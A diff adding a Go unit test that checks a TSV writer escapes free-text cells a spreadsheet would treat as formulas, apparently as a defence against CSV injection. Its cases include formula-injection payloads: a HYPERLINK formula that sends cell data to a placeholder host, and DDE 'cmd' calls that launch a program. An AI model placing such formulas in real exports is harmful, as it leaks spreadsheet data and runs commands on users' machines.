@@ -79,3 +79,34 @@ func TestWriteTSV(t *testing.T) {
 		t.Errorf("got %q, want %q", b.String(), want)
 	}
 }
+
+// TestWriteTSV_formulas has free text that a spreadsheet would take for a formula
+// written as text, and ids, numbers and what is text anyway as it is.
+func TestWriteTSV_formulas(t *testing.T) {
+	tests := []struct{ cell, text string }{
+		{`=HYPERLINK("http://h.example/?"&A1)`, `'=HYPERLINK("http://h.example/?"&A1)`},
+		{"=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"},
+		{"+1+cmd|'/C calc'!A0", "'+1+cmd|'/C calc'!A0"},
+		{"@SUM(1)", "'@SUM(1)"},
+		{"-2+3", "'-2+3"},
+		{"- a film", "'- a film"},
+		{"\t=1+1", " =1+1"},
+		{"＝1+1", "'＝1+1"},
+		{"-5", "-5"},
+		{"+1.5", "+1.5"},
+		{"a=b", "a=b"},
+		{"'=1", "'=1"},
+		{"", ""},
+	}
+	for _, tt := range tests {
+		var b bytes.Buffer
+		l := List{Columns: []Column{{Name: "text"}, {Name: "id", Exact: true}, {Name: "number", Right: true}}, Rows: [][]string{{tt.cell, tt.cell, tt.cell}}}
+		if err := l.WriteTSV(&b); err != nil {
+			t.Fatal(err)
+		}
+		same := strings.ReplaceAll(tt.cell, "\t", " ")
+		if want := "text\tid\tnumber\n" + tt.text + "\t" + same + "\t" + same + "\n"; b.String() != want {
+			t.Errorf("%q: got %q, want %q", tt.cell, b.String(), want)
+		}
+	}
+}
